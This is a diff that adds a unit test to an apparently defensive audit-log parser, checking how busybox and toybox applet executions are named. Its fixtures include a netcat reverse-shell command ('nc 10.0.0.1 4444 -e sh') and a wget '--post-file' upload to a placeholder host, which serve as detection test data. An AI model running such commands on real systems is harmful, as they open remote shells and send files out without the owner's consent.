@@ -341,3 +341,27 @@ test('the file reader gives what the parser gives line by line (chunked reading 
     rmSync(dir, { recursive: true, force: true });
   }
 });
+
+test('multi-call binaries are named by argv[0]: applet links, /proc/self/exe re-execution, `busybox APPLET`', () => {
+  const g = (comm: string, exe: string, args: string[]) => {
+    const argv = args.map((a, i) => `a${i}="${a}"`).join(' ');
+    const records = [
+      `type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 uid=0 comm="${comm}" exe="${exe}" key="stowaway-exec"`,
+      `type=EXECVE msg=audit(1.000:1): argc=${args.length} ${argv}`,
+    ].map((l) => (parseAuditLine(l) as { record: never }).record);
+    return toEvent({ serial: 1, timeMs: 1000, records, complete: true }).process!;
+  };
+  // busybox sh runs applets by re-executing itself: the kernel's name is `exe`
+  const viaSelf = g('exe', '/bin/busybox', ['nc', '10.0.0.1', '4444', '-e', 'sh']);
+  assert.equal(viaSelf.name, 'nc');
+  assert.equal(viaSelf.executable, '/bin/busybox', 'the executable stays what the kernel ran');
+  assert.equal(viaSelf.command_line, 'nc 10.0.0.1 4444 -e sh');
+  assert.equal(g('wget', '/bin/busybox', ['/bin/wget', '--post-file', '/tmp/x', 'http://h/']).name, 'wget');
+  assert.equal(g('busybox', '/usr/bin/busybox', ['busybox', 'nc', 'h', '1']).name, 'nc');
+  assert.equal(g('exe', '/usr/bin/toybox', ['/usr/bin/toybox', 'wget']).name, 'wget');
+  assert.equal(g('sh', '/bin/busybox', ['-sh']).name, 'sh', 'a login shell is still sh');
+  assert.equal(g('busybox', '/bin/busybox', ['busybox', '--list']).name, 'busybox');
+  // other programs keep the kernel's name, whatever argv[0] claims (exec -a)
+  assert.equal(g('runc', '/usr/bin/runc', ['runc:[2:INIT]']).name, 'runc');
+  assert.equal(g('python3', '/usr/bin/python3.11', ['nc']).name, 'python3');
+});
